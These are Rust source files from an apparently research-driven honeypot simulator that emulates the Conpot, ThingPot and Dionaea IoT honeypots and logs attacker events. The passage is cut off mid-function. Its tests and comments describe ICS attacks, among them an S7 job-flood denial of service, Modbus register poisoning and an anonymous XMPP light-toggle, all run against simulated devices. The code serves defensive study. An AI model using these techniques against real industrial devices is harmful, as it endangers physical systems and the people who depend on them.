use std::net::Ipv4Addr;

use ofh_net::SimTime;
use ofh_wire::Protocol;
use serde::{Deserialize, Serialize};

/// What a honeypot observed in one interaction.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum EventKind {
    /// A TCP connection was opened (any connection to a honeypot is an
    /// attack event by definition).
    Connection,
    /// A UDP probe/datagram arrived.
    Datagram { len: usize },
    /// A service-discovery request (SSDP M-SEARCH, CoAP /.well-known/core).
    Discovery,
    /// A login attempt with credentials.
    LoginAttempt {
        username: String,
        password: String,
        success: bool,
    },
    /// A shell command after login.
    Command { line: String },
    /// A binary payload was dropped (dropper download, FTP STOR, SMB write).
    PayloadDrop { payload: Vec<u8>, url: Option<String> },
    /// A write that changes stored data (MQTT/AMQP publish, CoAP PUT,
    /// Modbus register write, S7 write-var).
    DataWrite { target: String },
    /// A read/subscribe of stored data (MQTT subscribe, register read).
    DataRead { target: String },
    /// An HTTP request (path recorded; scraping and floods look alike here —
    /// rates disambiguate downstream).
    HttpRequest { path: String },
    /// A protocol exploit signature (e.g. SMB Trans2 anomaly, S7 PDU-type-1
    /// job flood element).
    ExploitSignature { name: String },
}

impl EventKind {
    /// Static label for metrics/tracing.
    pub const fn name(&self) -> &'static str {
        match self {
            EventKind::Connection => "connection",
            EventKind::Datagram { .. } => "datagram",
            EventKind::Discovery => "discovery",
            EventKind::LoginAttempt { .. } => "login_attempt",
            EventKind::Command { .. } => "command",
            EventKind::PayloadDrop { .. } => "payload_drop",
            EventKind::DataWrite { .. } => "data_write",
            EventKind::DataRead { .. } => "data_read",
            EventKind::HttpRequest { .. } => "http_request",
            EventKind::ExploitSignature { .. } => "exploit_signature",
        }
    }

    /// Size, in bytes, of the transferred payload where the event has one.
    fn bytes(&self) -> u32 {
        match self {
            EventKind::Datagram { len } => *len as u32,
            EventKind::PayloadDrop { payload, .. } => payload.len() as u32,
            _ => 0,
        }
    }
}

/// One logged attack event.
///
/// Serializes for JSON-lines export; not deserializable because the honeypot
/// name is a static label (analysis runs in-process on the same log).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct AttackEvent {
    pub time: SimTime,
    /// Which deployed honeypot logged it.
    pub honeypot: &'static str,
    pub protocol: Protocol,
    pub src: Ipv4Addr,
    pub src_port: u16,
    pub kind: EventKind,
}

/// An append-only event log owned by a honeypot agent.
#[derive(Debug, Default)]
pub struct EventLog {
    pub honeypot: &'static str,
    pub events: Vec<AttackEvent>,
}

impl EventLog {
    pub fn new(honeypot: &'static str) -> Self {
        EventLog {
            honeypot,
            events: Vec::new(),
        }
    }

    pub fn log(
        &mut self,
        time: SimTime,
        protocol: Protocol,
        src: Ipv4Addr,
        src_port: u16,
        kind: EventKind,
    ) {
        ofh_obs::count_l("honeypot.event", self.honeypot, 1);
        ofh_obs::count_l("honeypot.event.kind", kind.name(), 1);
        ofh_obs::span(
            "honeypot.event",
            protocol.name(),
            time.0,
            time.0,
            u32::from(src),
            0,
            src_port,
            kind.bytes(),
        );
        self.events.push(AttackEvent {
            time,
            honeypot: self.honeypot,
            protocol,
            src,
            src_port,
            kind,
        });
    }

    pub fn len(&self) -> usize {
        self.events.len()
    }

    pub fn is_empty(&self) -> bool {
        self.events.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn log_appends() {
        let mut log = EventLog::new("Cowrie");
        log.log(
            SimTime(1),
            Protocol::Telnet,
            "1.2.3.4".parse().unwrap(),
            5555,
            EventKind::Connection,
        );
        log.log(
            SimTime(2),
            Protocol::Telnet,
            "1.2.3.4".parse().unwrap(),
            5555,
            EventKind::LoginAttempt {
                username: "admin".into(),
                password: "admin".into(),
                success: true,
            },
        );
        assert_eq!(log.len(), 2);
        assert_eq!(log.events[0].honeypot, "Cowrie");
        assert!(log.events[0].time < log.events[1].time);
    }

    #[test]
    fn events_serialize() {
        let ev = AttackEvent {
            time: SimTime(99),
            honeypot: "U-Pot",
            protocol: Protocol::Upnp,
            src: "9.9.9.9".parse().unwrap(),
            src_port: 1900,
            kind: EventKind::Discovery,
        };
        let json = serde_json::to_string(&ev).unwrap();
        assert!(json.contains("U-Pot"));
    }
}
