//! # ofh-honeypots — deployed and wild honeypots
//!
//! Two distinct roles, matching the paper:
//!
//! 1. **Deployed honeypots** ([`deployed`]) — the six state-of-the-art IoT
//!    honeypots the authors ran for April 2021 (Cowrie, HosTaGe, Dionaea,
//!    ThingPot, U-Pot, Conpot; Fig. 1 / Table 7). Each is an [`ofh_net::Agent`]
//!    that simulates its device profile, answers in real protocol bytes, and
//!    logs every interaction as a raw [`AttackEvent`]. The event log is the
//!    dataset behind Table 7 and Figs. 3, 4, 7, 8, 9 and Tables 12/13.
//!
//! 2. **Wild honeypots** ([`wild`]) — the nine honeypot families other people
//!    run on the Internet (Table 6: HoneyPy, Cowrie, MTPot, Telnet-IoT,
//!    Conpot, Kippo, Kako, Hontel, Anglerfish). They carry the static banner
//!    signatures the paper fingerprints, and they *would poison* the
//!    misconfigured-device counts if not filtered — which is exactly the
//!    sanitization experiment (8,192 filtered instances).

pub mod deployed;
pub mod events;
pub mod wild;

pub use deployed::{
    ConpotHoneypot, CowrieHoneypot, DionaeaHoneypot, HoneypotKind, HosTaGeHoneypot,
    ThingPotHoneypot, UPotHoneypot,
};
pub use events::{AttackEvent, EventKind, EventLog};
pub use wild::{WildHoneypot, WildHoneypotAgent};
