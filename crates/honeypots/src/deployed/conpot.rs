//! Conpot — the ICS/SCADA honeypot.
//!
//! Deployed as a "Siemens S7 PLC" (Table 7): SSH, Telnet, S7 and HTTP, plus
//! the Modbus service §5.1.4 analyses. The observed industrial attacks:
//! register poisoning (reads/writes of the holding register, device
//! identification, report-server-id — only ~10% of Modbus traffic used valid
//! function codes), and the ICSA-16-299-01 DoS performed by flooding S7
//! PDU-type-1 Job requests.

use std::collections::HashMap;

use ofh_net::Payload;
use ofh_net::{Agent, ConnToken, NetCtx, SockAddr, TcpDecision};
use ofh_wire::modbus::{self, Frame as ModbusFrame};
use ofh_wire::s7::{pdu_type, S7Message};
use ofh_wire::telnet::visible_text;
use ofh_wire::{http, ports, Protocol};

use crate::deployed::common::{drain_lines, ConnGate, LoginMachine, LoginStep};
use crate::events::{EventKind, EventLog};

/// The Conpot honeypot agent.
pub struct ConpotHoneypot {
    pub log: EventLog,
    telnet: LoginMachine,
    ssh: LoginMachine,
    conns: HashMap<ConnToken, (Protocol, SockAddr, Vec<u8>)>,
    /// Simulated holding registers (poisoning targets).
    pub registers: Vec<u16>,
    gate: ConnGate,
}

impl Default for ConpotHoneypot {
    fn default() -> Self {
        Self::new()
    }
}

impl ConpotHoneypot {
    pub fn new() -> Self {
        ConpotHoneypot {
            log: EventLog::new("Conpot"),
            telnet: LoginMachine::new(2),
            ssh: LoginMachine::new(2),
            conns: HashMap::new(),
            registers: vec![0x0100; 16],
            gate: ConnGate::default(),
        }
    }

    /// Connections refused because the gate was full (flood shedding).
    pub fn shed_connections(&self) -> u64 {
        self.gate.shed()
    }
}

impl Agent for ConpotHoneypot {
    fn on_tcp_open(
        &mut self,
        ctx: &mut NetCtx<'_>,
        conn: ConnToken,
        local_port: u16,
        peer: SockAddr,
    ) -> TcpDecision {
        let protocol = match local_port {
            ports::TELNET => Protocol::Telnet,
            ports::SSH => Protocol::Ssh,
            ports::S7 => Protocol::S7,
            ports::MODBUS => Protocol::Modbus,
            ports::HTTP => Protocol::Http,
            _ => return TcpDecision::Refuse,
        };
        if !self.gate.try_admit() {
            return TcpDecision::Refuse;
        }
        self.conns.insert(conn, (protocol, peer, Vec::new()));
        self.log.log(ctx.now(), protocol, peer.addr, peer.port, EventKind::Connection);
        match protocol {
            Protocol::Telnet => {
                self.telnet.open(conn);
                // Conpot's characteristic banner (its Table 6 signature).
                TcpDecision::accept_with(b"Connected to [00:13:EA:00:00:00]\r\nlogin: ".to_vec())
            }
            Protocol::Ssh => {
                self.ssh.open(conn);
                TcpDecision::accept_with(b"SSH-2.0-OpenSSH_6.7p1 SiemensPLC\r\n".to_vec())
            }
            _ => TcpDecision::accept(),
        }
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let Some((protocol, peer, _)) = self.conns.get(&conn).map(|(p, s, _)| (*p, *s, ())) else {
            return;
        };
        let now = ctx.now();
        match protocol {
            Protocol::S7 => {
                let Ok(msg) = S7Message::decode(data) else {
                    self.log.log(
                        now,
                        protocol,
                        peer.addr,
                        peer.port,
                        EventKind::Datagram { len: data.len() },
                    );
                    return;
                };
                if msg.pdu_type == pdu_type::JOB {
                    // PDU-type-1 Job: the ICSA-16-299-01 flood element.
                    self.log.log(
                        now,
                        protocol,
                        peer.addr,
                        peer.port,
                        EventKind::ExploitSignature { name: "S7 PDU-type-1 job".into() },
                    );
                    match msg.function() {
                        Some(ofh_wire::s7::function::WRITE_VAR) => self.log.log(
                            now,
                            protocol,
                            peer.addr,
                            peer.port,
                            EventKind::DataWrite { target: "s7-var".into() },
                        ),
                        Some(ofh_wire::s7::function::READ_VAR) => self.log.log(
                            now,
                            protocol,
                            peer.addr,
                            peer.port,
                            EventKind::DataRead { target: "s7-var".into() },
                        ),
                        _ => {}
                    }
                    // Ack the job (the vulnerable PLC spawns a job per
                    // request — exactly why the flood works).
                    let ack = S7Message {
                        pdu_type: pdu_type::ACK_DATA,
                        pdu_ref: msg.pdu_ref,
                        parameters: msg.parameters.clone(),
                        data: Vec::new(),
                    };
                    ctx.tcp_send(conn, ack.encode());
                }
            }
            Protocol::Modbus => {
                let Ok(frame) = ModbusFrame::decode(data) else {
                    return;
                };
                use ofh_wire::modbus::function::*;
                match frame.function {
                    READ_HOLDING_REGISTERS => {
                        self.log.log(
                            now,
                            protocol,
                            peer.addr,
                            peer.port,
                            EventKind::DataRead { target: "holding-register".into() },
                        );
                        let mut data = vec![(self.registers.len() * 2) as u8];
                        for r in &self.registers {
                            data.extend_from_slice(&r.to_be_bytes());
                        }
                        ctx.tcp_send(
                            conn,
                            ModbusFrame {
                                transaction_id: frame.transaction_id,
                                unit_id: frame.unit_id,
                                function: READ_HOLDING_REGISTERS,
                                data,
                            }
                            .encode(),
                        );
                    }
                    WRITE_SINGLE_REGISTER => {
                        self.log.log(
                            now,
                            protocol,
                            peer.addr,
                            peer.port,
                            EventKind::DataWrite { target: "holding-register".into() },
                        );
                        if frame.data.len() >= 4 {
                            let addr = u16::from_be_bytes([frame.data[0], frame.data[1]]) as usize;
                            let value = u16::from_be_bytes([frame.data[2], frame.data[3]]);
                            if let Some(r) = self.registers.get_mut(addr) {
                                *r = value;
                            }
                        }
                        ctx.tcp_send(conn, frame.encode()); // echo = success
                    }
                    READ_DEVICE_IDENTIFICATION | REPORT_SERVER_ID => {
                        self.log.log(
                            now,
                            protocol,
                            peer.addr,
                            peer.port,
                            EventKind::DataRead { target: "device-identification".into() },
                        );
                        ctx.tcp_send(
                            conn,
                            ModbusFrame {
                                transaction_id: frame.transaction_id,
                                unit_id: frame.unit_id,
                                function: frame.function,
                                data: b"Siemens SIMATIC S7-200".to_vec(),
                            }
                            .encode(),
                        );
                    }
                    _ => {
                        // Invalid function codes — ~90% of observed traffic.
                        self.log.log(
                            now,
                            protocol,
                            peer.addr,
                            peer.port,
                            EventKind::ExploitSignature { name: "Modbus invalid function".into() },
                        );
                        ctx.tcp_send(
                            conn,
                            ModbusFrame::exception(&frame, modbus::EXCEPTION_ILLEGAL_FUNCTION)
                                .encode(),
                        );
                    }
                }
            }
            Protocol::Telnet | Protocol::Ssh => {
                let cleaned = if protocol == Protocol::Telnet {
                    visible_text(data)
                } else {
                    data.to_vec()
                };
                let buf = &mut self.conns.get_mut(&conn).unwrap().2;
                buf.extend_from_slice(&cleaned);
                for line in drain_lines(buf) {
                    if line.is_empty() {
                        continue;
                    }
                    if line.starts_with("SSH-") {
                        ctx.tcp_send(conn, "KEXINIT\n"); // see cowrie.rs
                        continue;
                    }
                    let machine = if protocol == Protocol::Ssh { &mut self.ssh } else { &mut self.telnet };
                    if protocol == Protocol::Ssh {
                        if let Some(rest) = line.strip_prefix("AUTH ") {
                            let mut it = rest.splitn(2, ' ');
                            let user = it.next().unwrap_or("").to_string();
                            let pass = it.next().unwrap_or("").to_string();
                            machine.feed(conn, &user);
                            if let LoginStep::Attempt { success, .. } = machine.feed(conn, &pass) {
                                self.log.log(
                                    now,
                                    protocol,
                                    peer.addr,
                                    peer.port,
                                    EventKind::LoginAttempt { username: user, password: pass, success },
                                );
                                ctx.tcp_send(conn, if success { "OK\n" } else { "DENIED\n" });
                            }
                            continue;
                        }
                    }
                    match machine.feed(conn, &line) {
                        LoginStep::Prompt(p) => ctx.tcp_send(conn, p),
                        LoginStep::Attempt { username, password, success } => {
                            self.log.log(
                                now,
                                protocol,
                                peer.addr,
                                peer.port,
                                EventKind::LoginAttempt { username, password, success },
                            );
                            ctx.tcp_send(conn, if success { "S7> " } else { "login: " });
                        }
                        LoginStep::Command(cmd) => {
                            self.log.log(now, protocol, peer.addr, peer.port, EventKind::Command { line: cmd });
                            ctx.tcp_send(conn, "S7> ");
                        }
                    }
                }
            }
            Protocol::Http => {
                if let Ok(req) = http::Request::parse(data) {
                    self.log.log(
                        now,
                        protocol,
                        peer.addr,
                        peer.port,
                        EventKind::HttpRequest { path: req.path.clone() },
                    );
                    ctx.tcp_send(
                        conn,
                        http::Response::ok(b"<html><title>SIMATIC S7-200</title></html>".to_vec())
                            .with_server("Siemens Simatic S7")
                            .render(),
                    );
                }
            }
            _ => {}
        }
    }

    fn on_tcp_closed(&mut self, _ctx: &mut NetCtx<'_>, conn: ConnToken) {
        if let Some((protocol, _, _)) = self.conns.remove(&conn) {
            self.gate.release();
            match protocol {
                Protocol::Telnet => self.telnet.close(conn),
                Protocol::Ssh => self.ssh.close(conn),
                _ => {}
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};

    struct Sender {
        dst: SockAddr,
        payloads: Vec<Vec<u8>>,
        replies: Vec<Vec<u8>>,
    }

    impl Agent for Sender {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            ctx.tcp_connect(self.dst);
        }
        fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
            for p in self.payloads.drain(..) {
                ctx.tcp_send(conn, p);
            }
        }
        fn on_tcp_data(&mut self, _c: &mut NetCtx<'_>, _conn: ConnToken, data: &Payload) {
            self.replies.push(data.to_vec());
        }
    }

    fn run(port: u16, payloads: Vec<Vec<u8>>) -> (ConpotHoneypot, Vec<Vec<u8>>) {
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 15);
        let hid = net.attach(haddr, Box::new(ConpotHoneypot::new()));
        let sid = net.attach(
            ip(16, 1, 0, 92),
            Box::new(Sender { dst: SockAddr::new(haddr, port), payloads, replies: Vec::new() }),
        );
        net.run_until(SimTime(60_000));
        let replies = net.agent_downcast::<Sender>(sid).unwrap().replies.clone();
        let h = net.agent_downcast_mut::<ConpotHoneypot>(hid).unwrap();
        let out = ConpotHoneypot {
            log: std::mem::take(&mut h.log),
            telnet: LoginMachine::new(2),
            ssh: LoginMachine::new(2),
            conns: HashMap::new(),
            registers: h.registers.clone(),
            gate: ConnGate::default(),
        };
        (out, replies)
    }

    #[test]
    fn s7_job_flood_logged_as_exploit() {
        let job = S7Message::job(1, ofh_wire::s7::function::READ_VAR, &[]).encode();
        let (h, replies) = run(102, vec![job.clone(), job.clone(), job]);
        let sigs = h
            .log
            .events
            .iter()
            .filter(|e| matches!(&e.kind, EventKind::ExploitSignature { name } if name.contains("PDU-type-1")))
            .count();
        assert_eq!(sigs, 3);
        // Each job is acked (the job-spawning behaviour).
        assert_eq!(replies.len(), 3);
    }

    #[test]
    fn modbus_register_poisoning() {
        let write = ModbusFrame::write_single_register(5, 2, 0xBEEF).encode();
        let read = ModbusFrame::read_holding_registers(6, 0, 16).encode();
        let (h, _) = run(502, vec![write, read]);
        assert_eq!(h.registers[2], 0xBEEF);
        assert!(h.log.events.iter().any(|e| matches!(&e.kind, EventKind::DataWrite { .. })));
        assert!(h.log.events.iter().any(|e| matches!(&e.kind, EventKind::DataRead { .. })));
    }

    #[test]
    fn modbus_invalid_function_gets_exception() {
        let bad = ModbusFrame {
            transaction_id: 9,
            unit_id: 1,
            function: 0x63,
            data: vec![],
        };
        let (h, replies) = run(502, vec![bad.encode()]);
        assert!(h.log.events.iter().any(|e| matches!(
            &e.kind,
            EventKind::ExploitSignature { name } if name.contains("invalid function")
        )));
        let resp = ModbusFrame::decode(&replies[0]).unwrap();
        assert!(resp.is_exception());
    }

    #[test]
    fn telnet_banner_is_conpots() {
        let (_, replies) = run(23, vec![]);
        let banner = String::from_utf8_lossy(&replies[0]).into_owned();
        assert!(banner.contains("Connected to [00:13:EA"));
    }
}
