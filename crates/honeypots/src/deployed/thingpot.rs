//! ThingPot — the XMPP IoT honeypot.
//!
//! Deployed as a "Philips Hue Bridge" (Table 7): XMPP plus an HTTP frontend.
//! §5.1.2 records brute-force logins against the Hue system, dictionary
//! attacks, and malware logging in as anonymous users to flip the light
//! state (probing their write privileges).

use std::collections::HashMap;

use ofh_net::Payload;
use ofh_net::{Agent, ConnToken, NetCtx, SockAddr, TcpDecision};
use ofh_wire::xmpp::{Mechanism, StreamFeatures};
use ofh_wire::{http, ports, Protocol};

use crate::deployed::common::ConnGate;
use crate::events::{EventKind, EventLog};

/// The ThingPot honeypot agent.
pub struct ThingPotHoneypot {
    pub log: EventLog,
    opened: HashMap<ConnToken, (SockAddr, bool)>,
    gate: ConnGate,
}

impl Default for ThingPotHoneypot {
    fn default() -> Self {
        Self::new()
    }
}

impl ThingPotHoneypot {
    pub fn new() -> Self {
        ThingPotHoneypot {
            log: EventLog::new("ThingPot"),
            opened: HashMap::new(),
            gate: ConnGate::default(),
        }
    }

    /// Connections refused because the gate was full (flood shedding).
    pub fn shed_connections(&self) -> u64 {
        self.gate.shed()
    }

    fn features() -> StreamFeatures {
        StreamFeatures {
            from: "philips-hue".into(),
            id: "tp1".into(),
            starttls: None,
            mechanisms: vec![Mechanism::Plain, Mechanism::Anonymous],
            version: Some("ejabberd-2.1.11".into()),
        }
    }
}

impl Agent for ThingPotHoneypot {
    fn on_tcp_open(
        &mut self,
        ctx: &mut NetCtx<'_>,
        conn: ConnToken,
        local_port: u16,
        peer: SockAddr,
    ) -> TcpDecision {
        let protocol = match local_port {
            ports::XMPP_CLIENT | ports::XMPP_SERVER => Protocol::Xmpp,
            ports::HTTP => Protocol::Http,
            _ => return TcpDecision::Refuse,
        };
        if !self.gate.try_admit() {
            return TcpDecision::Refuse;
        }
        self.log.log(ctx.now(), protocol, peer.addr, peer.port, EventKind::Connection);
        self.opened.insert(conn, (peer, false));
        TcpDecision::accept()
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let Some(&(peer, stream_opened)) = self.opened.get(&conn) else {
            return;
        };
        let now = ctx.now();
        // HTTP frontend.
        if data.starts_with(b"GET") || data.starts_with(b"POST") {
            if let Ok(req) = http::Request::parse(data) {
                self.log.log(
                    now,
                    Protocol::Http,
                    peer.addr,
                    peer.port,
                    EventKind::HttpRequest { path: req.path.clone() },
                );
                ctx.tcp_send(
                    conn,
                    http::Response::ok(b"{\"bridgeid\":\"001788FFFE23A189\",\"name\":\"Philips hue\"}".to_vec())
                        .with_server("nginx")
                        .render(),
                );
            }
            return;
        }
        let text = String::from_utf8_lossy(data).into_owned();
        if !stream_opened {
            if text.contains("<stream:stream") {
                self.opened.insert(conn, (peer, true));
                ctx.tcp_send(conn, Self::features().render().into_bytes());
            }
            return;
        }
        if text.contains("mechanism='ANONYMOUS'") {
            self.log.log(
                now,
                Protocol::Xmpp,
                peer.addr,
                peer.port,
                EventKind::LoginAttempt {
                    username: "anonymous".into(),
                    password: String::new(),
                    success: true,
                },
            );
            ctx.tcp_send(conn, "<success xmlns='urn:ietf:params:xml:ns:xmpp-sasl'/>");
        } else if text.contains("mechanism='PLAIN'") {
            // PLAIN carries base64("\0user\0pass"); we log the raw blob the
            // same way ThingPot's logs keep the SASL exchange.
            let blob = text
                .split('>')
                .nth(1)
                .unwrap_or("")
                .split('<')
                .next()
                .unwrap_or("")
                .to_string();
            self.log.log(
                now,
                Protocol::Xmpp,
                peer.addr,
                peer.port,
                EventKind::LoginAttempt {
                    username: blob,
                    password: String::new(),
                    success: false,
                },
            );
            ctx.tcp_send(
                conn,
                "<failure xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><not-authorized/></failure>",
            );
        } else if text.contains("<iq") && text.contains("type='set'") {
            self.log.log(
                now,
                Protocol::Xmpp,
                peer.addr,
                peer.port,
                EventKind::DataWrite { target: "hue-lights".into() },
            );
            ctx.tcp_send(conn, "<iq type='result'/>");
        }
    }

    fn on_tcp_closed(&mut self, _ctx: &mut NetCtx<'_>, conn: ConnToken) {
        if self.opened.remove(&conn).is_some() {
            self.gate.release();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};
    use ofh_wire::xmpp::client_stream_open;

    struct XmppBot {
        dst: SockAddr,
        script: Vec<String>,
        step: usize,
    }

    impl Agent for XmppBot {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            ctx.tcp_connect(self.dst);
        }
        fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
            ctx.tcp_send(conn, client_stream_open("philips-hue").into_bytes());
        }
        fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, _d: &Payload) {
            if self.step < self.script.len() {
                let m = self.script[self.step].clone();
                self.step += 1;
                ctx.tcp_send(conn, m.into_bytes());
            }
        }
    }

    #[test]
    fn anonymous_login_then_light_poisoning() {
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 13);
        let hid = net.attach(haddr, Box::new(ThingPotHoneypot::new()));
        net.attach(
            ip(16, 1, 0, 95),
            Box::new(XmppBot {
                dst: SockAddr::new(haddr, 5222),
                script: vec![
                    "<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='ANONYMOUS'/>".into(),
                    "<iq type='set'><light state='off'/></iq>".into(),
                ],
                step: 0,
            }),
        );
        net.run_until(SimTime(60_000));
        let h = net.agent_downcast::<ThingPotHoneypot>(hid).unwrap();
        assert!(h.log.events.iter().any(|e| matches!(
            &e.kind,
            EventKind::LoginAttempt { username, success: true, .. } if username == "anonymous"
        )));
        assert!(h
            .log
            .events
            .iter()
            .any(|e| matches!(&e.kind, EventKind::DataWrite { target } if target == "hue-lights")));
    }

    #[test]
    fn http_frontend_serves_bridge_json() {
        struct Web {
            dst: SockAddr,
            body: Vec<u8>,
        }
        impl Agent for Web {
            fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
                ctx.tcp_connect(self.dst);
            }
            fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
                ctx.tcp_send(conn, http::Request::get("/api/config").render());
            }
            fn on_tcp_data(&mut self, _c: &mut NetCtx<'_>, _conn: ConnToken, data: &Payload) {
                self.body.extend_from_slice(data);
            }
        }
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 13);
        let hid = net.attach(haddr, Box::new(ThingPotHoneypot::new()));
        let wid = net.attach(
            ip(16, 1, 0, 94),
            Box::new(Web { dst: SockAddr::new(haddr, 80), body: Vec::new() }),
        );
        net.run_until(SimTime(60_000));
        let body = net.agent_downcast::<Web>(wid).unwrap().body.clone();
        assert!(String::from_utf8_lossy(&body).contains("Philips hue"));
        let h = net.agent_downcast::<ThingPotHoneypot>(hid).unwrap();
        assert!(h.log.events.iter().any(|e| e.protocol == Protocol::Http));
    }
}
