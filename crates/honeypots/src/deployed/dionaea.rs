//! Dionaea — the malware-catching honeypot.
//!
//! Deployed as an "Arduino IoT device with frontend" (Table 7): HTTP, MQTT,
//! FTP and SMB. Dionaea's specialty is capturing the binaries themselves:
//! FTP brute-force followed by `STOR` uploads delivered the Mozi and Lokibot
//! samples of §5.1.5, and its SMB emulation caught WannaCry droppers riding
//! the Eternal* exploits.

use std::collections::HashMap;

use ofh_net::Payload;
use ofh_net::{Agent, ConnToken, NetCtx, SockAddr, TcpDecision};
use ofh_wire::ftp::{Command, Reply};
use ofh_wire::mqtt::{ConnectReturnCode, Packet};
use ofh_wire::smb::{command as smb_cmd, SmbMessage};
use ofh_wire::{http, ports, Protocol};

use crate::deployed::common::{drain_lines, looks_like_binary, ConnGate};
use crate::events::{EventKind, EventLog};

#[derive(Debug, Clone, PartialEq)]
enum FtpState {
    NeedUser,
    NeedPass { user: String },
    LoggedIn,
    Storing { filename: String, data: Vec<u8> },
}

/// The Dionaea honeypot agent.
pub struct DionaeaHoneypot {
    pub log: EventLog,
    conns: HashMap<ConnToken, (Protocol, SockAddr, Vec<u8>)>,
    ftp: HashMap<ConnToken, FtpState>,
    gate: ConnGate,
}

impl Default for DionaeaHoneypot {
    fn default() -> Self {
        Self::new()
    }
}

impl DionaeaHoneypot {
    pub fn new() -> Self {
        DionaeaHoneypot {
            log: EventLog::new("Dionaea"),
            conns: HashMap::new(),
            ftp: HashMap::new(),
            gate: ConnGate::default(),
        }
    }

    /// Connections refused because the gate was full (flood shedding).
    pub fn shed_connections(&self) -> u64 {
        self.gate.shed()
    }
}

impl Agent for DionaeaHoneypot {
    fn on_tcp_open(
        &mut self,
        ctx: &mut NetCtx<'_>,
        conn: ConnToken,
        local_port: u16,
        peer: SockAddr,
    ) -> TcpDecision {
        let protocol = match local_port {
            ports::HTTP => Protocol::Http,
            ports::MQTT => Protocol::Mqtt,
            ports::FTP => Protocol::Ftp,
            ports::SMB => Protocol::Smb,
            _ => return TcpDecision::Refuse,
        };
        if !self.gate.try_admit() {
            return TcpDecision::Refuse;
        }
        self.conns.insert(conn, (protocol, peer, Vec::new()));
        self.log.log(ctx.now(), protocol, peer.addr, peer.port, EventKind::Connection);
        match protocol {
            Protocol::Ftp => {
                self.ftp.insert(conn, FtpState::NeedUser);
                TcpDecision::accept_with(
                    Reply::new(Reply::SERVICE_READY, "Arduino FTP service ready").render(),
                )
            }
            _ => TcpDecision::accept(),
        }
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let Some((protocol, peer, _)) = self.conns.get(&conn).map(|(p, s, _)| (*p, *s, ())) else {
            return;
        };
        let now = ctx.now();
        match protocol {
            Protocol::Ftp => {
                // STOR data phase: raw bytes are the uploaded file.
                if let Some(FtpState::Storing { filename, data: acc }) = self.ftp.get_mut(&conn) {
                    if looks_like_binary(data) || !acc.is_empty() {
                        acc.extend_from_slice(data);
                        let payload = acc.clone();
                        let filename = filename.clone();
                        self.log.log(
                            now,
                            protocol,
                            peer.addr,
                            peer.port,
                            EventKind::PayloadDrop {
                                payload,
                                url: Some(format!("ftp://upload/{filename}")),
                            },
                        );
                        self.ftp.insert(conn, FtpState::LoggedIn);
                        ctx.tcp_send(
                            conn,
                            Reply::new(Reply::TRANSFER_COMPLETE, "Transfer complete").render(),
                        );
                        return;
                    }
                }
                let buf = &mut self.conns.get_mut(&conn).unwrap().2;
                buf.extend_from_slice(data);
                for line in drain_lines(buf) {
                    let Ok(cmd) = Command::parse(&line) else { continue };
                    let state = self.ftp.get(&conn).cloned().unwrap_or(FtpState::NeedUser);
                    match (cmd.verb.as_str(), state) {
                        ("USER", _) => {
                            self.ftp.insert(
                                conn,
                                FtpState::NeedPass { user: cmd.arg.clone().unwrap_or_default() },
                            );
                            ctx.tcp_send(
                                conn,
                                Reply::new(Reply::NEED_PASSWORD, "Please specify the password").render(),
                            );
                        }
                        ("PASS", FtpState::NeedPass { user }) => {
                            let pass = cmd.arg.clone().unwrap_or_default();
                            // Dionaea accepts logins to observe what follows.
                            self.log.log(
                                now,
                                protocol,
                                peer.addr,
                                peer.port,
                                EventKind::LoginAttempt {
                                    username: user,
                                    password: pass,
                                    success: true,
                                },
                            );
                            self.ftp.insert(conn, FtpState::LoggedIn);
                            ctx.tcp_send(
                                conn,
                                Reply::new(Reply::LOGGED_IN, "Login successful").render(),
                            );
                        }
                        ("STOR", FtpState::LoggedIn) => {
                            self.ftp.insert(
                                conn,
                                FtpState::Storing {
                                    filename: cmd.arg.clone().unwrap_or_default(),
                                    data: Vec::new(),
                                },
                            );
                            ctx.tcp_send(
                                conn,
                                Reply::new(Reply::FILE_OK, "Ok to send data").render(),
                            );
                        }
                        ("QUIT", _) => {
                            ctx.tcp_send(conn, Reply::new(221, "Goodbye").render());
                            ctx.tcp_close(conn);
                        }
                        _ => {
                            ctx.tcp_send(conn, Reply::new(502, "Command not implemented").render());
                        }
                    }
                }
            }
            Protocol::Http => {
                if let Ok(req) = http::Request::parse(data) {
                    self.log.log(
                        now,
                        protocol,
                        peer.addr,
                        peer.port,
                        EventKind::HttpRequest { path: req.path.clone() },
                    );
                    ctx.tcp_send(
                        conn,
                        http::Response::ok(b"<html>Arduino device frontend</html>".to_vec())
                            .with_server("Dionaea-emulated/1.0")
                            .render(),
                    );
                }
            }
            Protocol::Mqtt => {
                let buf = &mut self.conns.get_mut(&conn).unwrap().2;
                buf.extend_from_slice(data);
                loop {
                    let snapshot =
                        self.conns.get(&conn).map(|(_, _, b)| b.clone()).unwrap_or_default();
                    let Ok((packet, used)) = Packet::decode(&snapshot) else { break };
                    self.conns.get_mut(&conn).unwrap().2.drain(..used);
                    match packet {
                        Packet::Connect { .. } => ctx.tcp_send(
                            conn,
                            Packet::ConnAck {
                                session_present: false,
